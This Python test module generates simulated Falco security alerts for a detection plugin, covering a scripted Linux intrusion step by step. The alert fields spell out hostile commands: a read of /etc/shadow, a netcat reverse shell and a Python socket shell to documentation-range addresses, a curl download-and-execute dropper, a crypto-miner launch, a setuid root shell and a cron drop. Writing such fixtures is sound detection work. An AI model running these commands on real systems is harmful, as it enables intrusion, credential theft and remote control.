"""Falco alerts as Falco writes them, for tests and for trying the source
without a Falco sensor (``python -m kestrel_sources_falco.testing > falco.jsonl``).

What the lines are based on (read, not copied):

* the JSON shape: falcosecurity/falco at 1307474 (2026-07-31),
  ``userspace/engine/formats.cpp``: top-level ``time`` (ISO 8601 with
  nanoseconds, ``Z``), ``rule``, ``priority``, ``source``, ``hostname``,
  then ``output``, ``tags`` and ``output_fields`` (each behind a
  ``json_include_*`` option of ``falco.yaml``, on by default), keys sorted
  (nlohmann::json objects are ordered maps); ``output`` is the text line:
  ``<evt.time>: <Priority> <rule output>``; ``output_fields`` holds every
  field the rule's output names plus ``evt.time`` (nanoseconds);
* the rules and the fields each one's output names: falcosecurity/rules at
  c72713e (2026-06-18), ``rules/falco_rules.yaml`` and
  ``falco-sandbox_rules.yaml``: the stable rules' output tail is
  ``evt.type user.name user.uid user.loginuid proc.name proc.exepath
  proc.pname proc.cmdline proc.tty`` (no pid), plus each rule's own fields;
  container fields as ``append_output``'s suggested output adds them;
* the catch-all rules of this plugin (``falco/kestrel_rules.yaml``) for the
  lines whose rule is ``Kestrel ...``: those name pids and flags.

Values (paths, addresses from the documentation ranges, pids) are made up.
"""

from __future__ import annotations

import sys
from datetime import datetime, timezone
from typing import Any, Iterable

import orjson

T0_NS = 1_785_000_000_000_000_000
"""2026-07-25T17:20:00Z: the first line's time."""
HOST = "web-1"

DEFAULT_TAIL = ("evt.type", "user.name", "user.uid", "user.loginuid", "proc.name", "proc.exepath", "proc.pname",
                "proc.cmdline", "proc.tty")
"""The fields every stable Falco rule's output ends with."""
CONTAINER = ("container.id", "container.name", "container.image.repository", "container.image.tag",
             "k8s.ns.name", "k8s.pod.name")


def iso(ts_ns: int) -> str:
    secs, ns = divmod(ts_ns, 10**9)
    return datetime.fromtimestamp(secs, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S") + f".{ns:09d}Z"


def alert(rule: str, priority: str, message: str, fields: dict[str, Any], ts_ns: int, *,
          tags: Iterable[str] = (), hostname: str = HOST, source: str = "syscall") -> dict[str, Any]:
    """One alert in Falco's json_output shape."""
    secs, ns = divmod(ts_ns, 10**9)
    clock = datetime.fromtimestamp(secs, timezone.utc).strftime("%H:%M:%S") + f".{ns:09d}"
    shown = " ".join(f"{k.replace('.', '_')}={'<NA>' if v is None else v}" for k, v in fields.items())
    return {
        "hostname": hostname,
        "output": f"{clock}: {priority} {message} | {shown}",
        "output_fields": {"evt.time": ts_ns, **fields},
        "priority": priority,
        "rule": rule,
        "source": source,
        "tags": sorted(tags),
        "time": iso(ts_ns),
    }


def line(doc: dict[str, Any]) -> str:
    return orjson.dumps(doc, option=orjson.OPT_SORT_KEYS).decode()


def _tail(evt_type: str, user: str, uid: int, name: str, exepath: str, pname: str, cmdline: str,
          tty: int = 0, loginuid: int = 1000) -> dict[str, Any]:
    return {"evt.type": evt_type, "user.name": user, "user.uid": uid, "user.loginuid": loginuid,
            "proc.name": name, "proc.exepath": exepath, "proc.pname": pname, "proc.cmdline": cmdline,
            "proc.tty": tty}


def _host_container() -> dict[str, Any]:
    return {"container.id": "host", "container.name": "host", "container.image.repository": None,
            "container.image.tag": None, "k8s.ns.name": None, "k8s.pod.name": None}


def story(t0_ns: int = T0_NS, host: str = HOST) -> list[dict[str, Any]]:
    """An intrusion as Falco reports it, one alert per step, 1 ms apart:
    first through Falco's default rules, then through the catch-all rules.
    :data:`STORY_ALERTS` lists the Linux-pack alerts it must raise."""
    t = iter(range(t0_ns, t0_ns + 10**9, 10**6))
    out = [
        # default ruleset ---------------------------------------------------
        alert("Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program",
              {"fd.name": "/etc/shadow", "proc.aname[2]": "sshd", "proc.aname[3]": "systemd", "proc.aname[4]": None,
               **_tail("openat", "root", 0, "cat", "/usr/bin/cat", "bash", "cat /etc/shadow", 34816, 1000),
               **_host_container()}, next(t), hostname=host,
              tags=("maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555")),
        alert("Read sensitive file trusted after startup", "Warning",
              "Sensitive file opened for reading by trusted program after startup",
              {"fd.name": "/etc/shadow", "proc.pcmdline": "sshd -D", "proc.aname[2]": "systemd",
               "proc.aname[3]": None, "proc.aname[4]": None,
               **_tail("openat", "root", 0, "sshd", "/usr/sbin/sshd", "sshd", "sshd -D", 0, -1),
               **_host_container()}, next(t), hostname=host,
              tags=("maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555")),
        alert("Execution from /dev/shm", "Warning", "File execution detected from /dev/shm",
              {"evt.res": "SUCCESS", "fd.name": None, "proc.cwd": "/dev/shm/.x/", "proc.pcmdline": "bash",
               "user.loginname": "alice", "group.gid": 0, "group.name": "root",
               **_tail("execve", "root", 0, "kworker", "/dev/shm/.x/kworker", "bash",
                       "kworker --donate-level=1 -o pool.example.net:3333", 34816),
               "evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER", **_host_container()}, next(t), hostname=host,
              tags=("maturity_stable", "host", "container", "mitre_execution", "T1059.004")),
        alert("Set Setuid or Setgid bit", "Notice", "Setuid or setgid bit is set via chmod",
              {"evt.arg.fd": None, "evt.arg.filename": "/tmp/rootsh",
               "evt.arg.mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
               **_tail("fchmodat", "root", 0, "chmod", "/usr/bin/chmod", "bash", "chmod u+s /tmp/rootsh", 34816),
               **_host_container()}, next(t), hostname=host,
              tags=("maturity_sandbox", "host", "container", "process", "users", "mitre_privilege_escalation",
                    "T1548.001")),
        alert("Schedule Cron Jobs", "Notice", "Cron jobs were scheduled to run",
              {"fd.name": "/etc/cron.d/sync",
               **_tail("openat", "root", 0, "tee", "/usr/bin/tee", "bash", "tee /etc/cron.d/sync", 34816),
               **_host_container()}, next(t), hostname=host,
              tags=("maturity_incubating", "host", "container", "filesystem", "mitre_execution", "T1053.003")),
        alert("Netcat Remote Code Execution in Container", "Warning",
              "Netcat runs inside container that allows remote code execution",
              {**_tail("execve", "www-data", 33, "nc", "/usr/bin/nc.traditional", "sh",
                       "nc -e /bin/sh 203.0.113.9 4444", 0, -1),
               "evt.arg.flags": "EXE_LOWER_LAYER", "container.id": "3ad7b26ded6d", "container.name": "shop-api",
               "container.image.repository": "registry.example.com/shop/api", "container.image.tag": "1.4.2",
               "k8s.ns.name": "shop", "k8s.pod.name": "shop-api-7c9d8-x2kqj"}, next(t), hostname=host,
              tags=("maturity_stable", "container", "network", "process", "mitre_execution", "T1059")),
        alert("Run shell untrusted", "Notice", "Shell spawned by untrusted binary",
              {"proc.pexe": "/usr/sbin/nginx", "proc.pexepath": "/usr/sbin/nginx",
               "proc.pcmdline": "nginx -g daemon off;", "proc.aname[2]": "nginx", "proc.aname[3]": "containerd-shim",
               **_tail("execve", "www-data", 33, "sh", "/usr/bin/dash", "nginx", "sh -c id;uname -a", 0, -1),
               "evt.arg.flags": "EXE_LOWER_LAYER", **_host_container()}, next(t), hostname=host,
              tags=("maturity_stable", "host", "container", "process", "shell", "mitre_execution", "T1059.004")),
    ]
    # catch-all rules (falco/kestrel_rules.yaml): pids, args, flags ------------------
    def proc(pid: int, ppid: int, name: str, exepath: str, args: str, pname: str, pexe: str, pcmd: str) -> dict:
        return {"proc.name": name, "proc.exe": exepath, "proc.exepath": exepath, "proc.args": args,
                "proc.cmdline": f"{name} {args}".rstrip(), "proc.pid": pid, "proc.ppid": ppid, "proc.pname": pname,
                "proc.pexepath": pexe, "proc.pcmdline": pcmd, "proc.cwd": "/root/", "proc.tty": 34816,
                "user.name": "root", "user.uid": 0, "user.loginuid": 1000, "group.gid": 0, "container.id": "host"}

    curl = proc(4100, 4000, "curl", "/usr/bin/curl", "-so /tmp/.p http://198.51.100.7/p", "bash", "/usr/bin/bash",
                "bash")
    out += [
        alert("Kestrel process exec", "Informational", "kestrel exec",
              {"evt.type": "execve", "evt.res": "SUCCESS", **curl}, next(t), hostname=host,
              tags=("kestrel", "process")),
        alert("Kestrel file open", "Informational", "kestrel open",
              {"evt.type": "openat", "evt.res": "SUCCESS", "fd.name": "/tmp/.p", "fd.type": "file",
               "evt.arg.flags": "O_TRUNC|O_CREAT|O_WRONLY|O_CLOEXEC|O_F_CREATED", **curl}, next(t), hostname=host,
              tags=("kestrel", "filesystem")),
        alert("Kestrel process exec", "Informational", "kestrel exec",
              {"evt.type": "execve", "evt.res": "SUCCESS",
               **proc(4101, 4000, ".p", "/tmp/.p", "", "bash", "/usr/bin/bash", "bash")}, next(t), hostname=host,
              tags=("kestrel", "process")),
        alert("Kestrel file change", "Informational", "kestrel file",
              {"evt.type": "unlinkat", "evt.res": "SUCCESS", "fd.name": None, "evt.arg.name": "/tmp/.p",
               "evt.arg.path": None, **proc(4101, 4000, ".p", "/tmp/.p", "", "bash", "/usr/bin/bash", "bash")},
              next(t), hostname=host, tags=("kestrel", "filesystem")),
        alert("Kestrel network connection", "Informational", "kestrel net",
              {"evt.type": "connect", "evt.res": "EINPROGRESS", "fd.name": "10.0.0.5:51000->203.0.113.5:4444",
               "fd.cip": "10.0.0.5", "fd.cport": 51000, "fd.sip": "203.0.113.5", "fd.sport": 4444,
               "fd.l4proto": "tcp", "fd.type": "ipv4",
               **proc(4200, 4000, "python3", "/usr/bin/python3.11", "-c import socket,os;s=socket.socket()",
                      "bash", "/usr/bin/bash", "bash")}, next(t), hostname=host, tags=("kestrel", "network")),
        alert("Kestrel process exec", "Informational", "kestrel exec",
              {"evt.type": "execve", "evt.res": "SUCCESS",
               **proc(4201, 4200, "bash", "/usr/bin/bash", "-i", "python3", "/usr/bin/python3.11",
                      "python3 -c import socket,os;s=socket.socket()")}, next(t), hostname=host,
              tags=("kestrel", "process")),
    ]
    return out


STORY_ALERTS = {
    "kestrel.linux.shadow_file_open": 1,  # cat; sshd's read of the same file is an allowed reader
    "kestrel.linux.exec_from_tmp": 2,  # /dev/shm/.x/kworker, /tmp/.p
    "kestrel.linux.miner_cli_options": 1,
    "kestrel.linux.setuid_bit_set": 1,
    "kestrel.linux.chmod_exec_in_tmp": 1,
    "kestrel.linux.cron_file_write": 1,  # an open for writing by the rule's definition (no flags in its output)
    "kestrel.linux.netcat_exec_shell": 1,
    "kestrel.linux.web_server_spawns_shell": 1,
    "kestrel.linux.webshell_recon": 1,
    "kestrel.linux.seq_download_tool_then_tmp_exec": 1,
    "kestrel.linux.dropper_chain": 1,
    "kestrel.linux.seq_tmp_binary_self_delete": 1,
    "kestrel.linux.shell_connects_to_rare_port": 1,
    "kestrel.linux.seq_interpreter_connect_then_shell": 1,
}
"""Linux-pack rule -> alerts over :func:`story` (why each fires: docs of the story's lines)."""


if __name__ == "__main__":
    sys.stdout.write("".join(line(doc) + "\n" for doc in story()))
